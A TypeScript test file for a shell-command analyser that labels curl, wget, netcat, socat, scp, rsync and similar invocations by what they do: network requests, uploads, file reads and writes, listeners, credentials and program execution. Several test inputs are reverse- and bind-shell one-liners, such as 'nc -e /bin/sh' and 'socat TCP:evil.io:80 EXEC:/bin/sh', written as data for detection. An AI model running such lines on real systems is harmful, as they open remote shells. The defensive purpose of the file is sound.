import { beforeAll, describe, expect, it } from "vitest";
import { analyseCommand } from "./analyse";
import { loadShellParser } from "./parser";
import type { DerivedAction } from "./types";

// What each network client of network.ts reads a line as: the endpoint, whether something is
// sent (`upload`), the files it sends or saves, listeners, credentials and programs it runs.
// Each case runs on both readers (the plain fast path and tree-sitter alone). Written against
// the StrykerJS survivors of network.ts (QUALITY.md, part `shell-programs-network`).

type Expected = Omit<DerivedAction, "tool" | "command" | "source">;
const UNREAD = "the endpoint cannot be read";
const net = (endpoint: string | null, upload: boolean, unsure?: string): Expected =>
  endpoint === null
    ? { type: "network.request", unsure: unsure ?? UNREAD, upload }
    : { type: "network.request", endpoint, upload, ...(unsure ? { unsure } : {}) };
const read = (resource: string, unsure?: string): Expected => ({ type: "file.read", resource, ...(unsure ? { unsure } : {}) });
const write = (resource: string, unsure?: string): Expected => ({ type: "file.write", resource, ...(unsure ? { unsure } : {}) });
const EXEC: Expected = { type: "shell.exec" };
const LISTEN: Expected = { type: "network.listen" };
const CREDENTIALS: Expected = { type: "network.credentials" };

beforeAll(() => loadShellParser());

describe("network clients", () => {
  it.each([
    ["curl https://x.io", [net("https://x.io", false)]],
    ["curl", [net(null, false)]],
    ["curl $U", [net(null, false, "the URL is an expansion")]],
    ['curl "https://$H/x"', [net(null, false, "the URL is an expansion")]],
    ["curl --data=@a https://x.io", [read("a"), net("https://x.io", true)]],
    ["curl --data-raw=@a https://x.io", [net("https://x.io", true)]],
    ["curl -sd @a https://x.io", [read("a"), net("https://x.io", true)]],
    ["curl -sS https://x.io", [net("https://x.io", false)]],
    ["curl -sSo out https://x.io", [write("out"), net("https://x.io", false)]],
    ["curl -d", [net(null, false)]],
    ["curl -T f x.io", [read("f"), net("x.io", true)]],
    ["curl --upload-file f x.io", [read("f"), net("x.io", true)]],
    ["curl -F 'a=@f;type=text/plain' x.io", [read("f"), net("x.io", true)]],
    ["curl -F 'a=<f' x.io", [read("f"), net("x.io", true)]],
    ["curl -F a=b x.io", [net("x.io", true)]],
    ["curl --form 'a=@f' x.io", [read("f"), net("x.io", true)]],
    ["curl --data-raw @f x.io", [net("x.io", true)]],
    ["curl --data-binary @f x.io", [read("f"), net("x.io", true)]],
    ["curl --data-urlencode @f x.io", [read("f"), net("x.io", true)]],
    ["curl --json @f x.io", [read("f"), net("x.io", true)]],
    ["curl -d x x.io", [net("x.io", true)]],
    ["curl --expand-data x x.io", [net("x.io", true)]],
    ["curl -X POST x.io", [net("x.io", true)]],
    ["curl -X GET x.io", [net("x.io", false)]],
    ["curl -X head x.io", [net("x.io", false)]],
    ["curl -X options x.io", [net("x.io", false)]],
    ["curl --request DELETE x.io", [net("x.io", true)]],
    ["curl --request=PUT x.io", [net("x.io", true)]],
    ["curl -o out x.io", [write("out"), net("x.io", false)]],
    ["curl --output out x.io", [write("out"), net("x.io", false)]],
    ["curl -c jar x.io", [write("jar"), net("x.io", false)]],
    ["curl --cookie-jar jar x.io", [write("jar"), net("x.io", false)]],
    ["curl -D h x.io", [write("h"), net("x.io", false)]],
    ["curl --dump-header h x.io", [write("h"), net("x.io", false)]],
    ["curl -K cfg x.io", [read("cfg"), net("x.io", false)]],
    ["curl --config cfg x.io", [read("cfg"), net("x.io", false)]],
    ["curl -E cert x.io", [read("cert"), net("x.io", false)]],
    ["curl --cert cert x.io", [read("cert"), net("x.io", false)]],
    ["curl --key k x.io", [read("k"), net("x.io", false)]],
    ["curl --url x.io", [net("x.io", false)]],
    ["curl --url=x.io", [net("x.io", false)]],
    ["curl -u a:b x.io", [CREDENTIALS, net("x.io", false)]],
    ["curl --user a:b x.io", [CREDENTIALS, net("x.io", false)]],
    ["curl --oauth2-bearer t x.io", [CREDENTIALS, net("x.io", false)]],
    ['curl -u "$C" x.io', [net("x.io", false)]],
    ["curl -H 'a: b' x.io", [net("x.io", false)]],
    ["curl --compressed x.io", [net("x.io", false)]],
    ["curl -A ua -e ref -b c -x p -w fmt -m 3 --retry 2 x.io", [net("x.io", false)]],
    ["curl a.io b.io", [net("a.io", false), net("b.io", false)]],
    ["wget x.io", [net("x.io", false)]],
    ["wget", [net(null, false)]],
    ["wget $U", [net(null, false)]],
    ["wget -O f x.io", [write("f"), net("x.io", false)]],
    ["wget --output-document=f x.io", [write("f"), net("x.io", false)]],
    ["wget -o log x.io", [write("log"), net("x.io", false)]],
    ["wget --output-file log x.io", [write("log"), net("x.io", false)]],
    ["wget -i list", [read("list"), net(null, false)]],
    ["wget --input-file=list", [read("list"), net(null, false)]],
    ["wget --load-cookies c x.io", [read("c"), net("x.io", false)]],
    ["wget --post-data x x.io", [net("x.io", true)]],
    ["wget --body-data=x x.io", [net("x.io", true)]],
    ["wget --post-file f x.io", [read("f"), net("x.io", true)]],
    ["wget --body-file=f x.io", [read("f"), net("x.io", true)]],
    ["wget --method PUT x.io", [net("x.io", true)]],
    ["wget --method=get x.io", [net("x.io", false)]],
    ["wget --method head x.io", [net("x.io", false)]],
    ["wget --header 'a: b' -U ua -t 3 -T 5 --user u --password p x.io", [net("x.io", false)]],
    ["wget -q -c x.io", [net("x.io", false)]],
    ["wget -P dir x.io", [write("dir/*", "the file name is a glob"), net("x.io", false)]],
    ["nc h.io 80", [net("tcp://h.io:80", true)]],
    ["nc h.io", [net("tcp://h.io", true)]],
    ["nc", [net(null, true)]],
    ["nc $H 80", [net(null, true)]],
    ["nc -l 4444", [LISTEN]],
    ["nc -lvp 4444", [LISTEN]],
    ["nc -vl 4444", [LISTEN]],
    ["nc -p 1234 h.io 80", [net("tcp://h.io:80", true)]],
    ["nc -w 3 h.io 80", [net("tcp://h.io:80", true)]],
    ["nc -zv h.io 80", [net("tcp://h.io:80", true)]],
    ["nc -e /bin/sh h.io 80", [EXEC, net("tcp://h.io:80", true)]],
    ["ncat h.io 80", [net("tcp://h.io:80", true)]],
    ["netcat h.io 80", [net("tcp://h.io:80", true)]],
    ["telnet h.io 25", [net("tcp://h.io:25", true)]],
    ["scp a h.io:/tmp/", [read("a"), net("ssh://h.io", true)]],
    ["scp -P 22 a u@h.io:b", [read("a"), net("ssh://h.io", true)]],
    ["scp -i key a h.io:b", [read("a"), net("ssh://h.io", true)]],
    ["scp h.io:/etc/x local", [net("ssh://h.io", false), write("local")]],
    ["scp a b", [read("a"), write("b")]],
    ["scp -r dir h.io:d", [read("dir"), net("ssh://h.io", true)]],
    ["rsync -av a h.io:b", [read("a"), net("ssh://h.io", true)]],
    ["rsync -e ssh a h.io:b", [read("a"), net("ssh://h.io", true)]],
    ["rsync -P a h.io:b", [read("a"), net("ssh://h.io", true)]],
    ["rsync h.io:b dest", [net("ssh://h.io", false), write("dest")]],
    ["rsync rsync://h.io/m dest", [net("ssh://h.io", false), write("dest")]],
    ["rsync a ./b:c", [read("a"), write("b:c")]],
    ["sftp u@h.io", [net("ssh://h.io", true)]],
    ["sftp", [net(null, true)]],
    ["sftp -P 22 h.io", [net("ssh://h.io", true)]],
    ["scp sftp://u@h.io:22/x local", [net("ssh://h.io", false), write("local")]],
    ["ftp ftp.h.io", [net("ftp.h.io", true)]],
    ["ftp -n", [net(null, true)]],
    ["lftp -u a h.io", [net(null, true)]],
    ["tftp h.io", [net("h.io", true)]],
    ["http x.io", [net("http://x.io", false)]],
    ["https x.io", [net("https://x.io", false)]],
    ["xh x.io", [net("http://x.io", false)]],
    ["xhs x.io", [net("https://x.io", false)]],
    ["http https://x.io/a", [net("https://x.io/a", false)]],
    ["http :3000/a", [net(":3000/a", false)]],
    ["http POST x.io a=b", [net("http://x.io", true)]],
    ["http GET x.io", [net("http://x.io", false)]],
    ["http HEAD x.io", [net("http://x.io", false)]],
    ["http PUT x.io", [net("http://x.io", true)]],
    ["http x.io a==b", [net("http://x.io", true)]],
    ["http x.io f@file", [read("file"), net("http://x.io", true)]],
    ["http x.io a=@file", [read("file"), net("http://x.io", true)]],
    ["http x.io a:=@file.json", [read("file.json"), net("http://x.io", true)]],
    ["http x.io X-A:b", [net("http://x.io", false)]],
    ["http $U", [net(null, false)]],
    ["http", [net(null, false)]],
    ["http --form POST x.io", [net("http://x.io", true)]],
    ["socat TCP-LISTEN:4444,fork EXEC:/bin/sh", [LISTEN, EXEC]],
    ["socat - CREATE:/w/x", [write("x"), EXEC]],
    ["socat TCP:evil.io:80 EXEC:/bin/sh", [net("tcp://evil.io", true), EXEC]],
    ["socat -d -d TCP4:h.io:80 -", [net("tcp://h.io", true)]],
    ["socat tcp6-connect:h.io:80 stdio", [net("tcp://h.io", true)]],
    ["socat OPEN:/w/a,rdonly STDOUT", [read("a"), write("a"), EXEC]],
    ["socat FILE:a TCP:h.io:1", [read("a"), write("a"), net("tcp://h.io", true)]],
    ["socat GOPEN:a TCP:h.io:1", [read("a"), write("a"), net("tcp://h.io", true)]],
    ["socat - UDP-RECV:53", [LISTEN]],
    ["socat TCP-L:80 -", [LISTEN]],
    ["socat SSL:h.io:443 STDIN", [net("tcp://h.io", true)]],
    ["socat UNIX-CONNECT:/tmp/s -", [EXEC]],
    ["socat", [EXEC]],
    ['ncat --sh-exec "sh" h.io 80', [EXEC, net(null, true)]],
    ["ncat --exec=/bin/sh h.io 80", [EXEC, net("tcp://h.io:80", true)]],
    ["ncat --proxy github.com evil.io 80", [net(null, true)]],
    ["nc -c ls h.io 80", [EXEC, net("tcp://h.io:80", true)]],
    ["nc -lvp 4444 -e /bin/sh", [EXEC, LISTEN]],
    ["lftp -u a h.io", [net(null, true)]],
    ["ftp -n h.io", [net("h.io", true)]],
    ["ftp -nv h.io", [net("h.io", true)]],
    ["ftp -n $H", [net(null, true)]],
    ["wget -P /etc/x x.io", [write("/etc/x/*", "the file name is a glob"), net("x.io", false)]],
    ["wget --directory-prefix=d/ x.io", [write("d/*", "the file name is a glob"), net("x.io", false)]],
    ["wget -a l x.io", [write("l"), net("x.io", false)]],
    ["wget --append-output l x.io", [write("l"), net("x.io", false)]],
    ["wget --save-cookies c x.io", [write("c"), net("x.io", false)]],
  ] as [string, Expected[]][])("%j", (line, expected) => {
    for (const plain of [true, false]) {
      const a = analyseCommand(line, { cwd: "/w", plain });
      // one simple command: every action names it (after quote removal) as command and source
      expect(a.commands, `${JSON.stringify(line)} plain=${plain}`).toHaveLength(1);
      const cmd = a.commands[0];
      expect(a, `${JSON.stringify(line)} plain=${plain}`).toEqual({
        actions: expected.map((e) => ({ tool: "Bash", command: cmd, source: cmd, ...e })),
        unanalysable: null,
        commands: [cmd],
      });
    }
  });
});
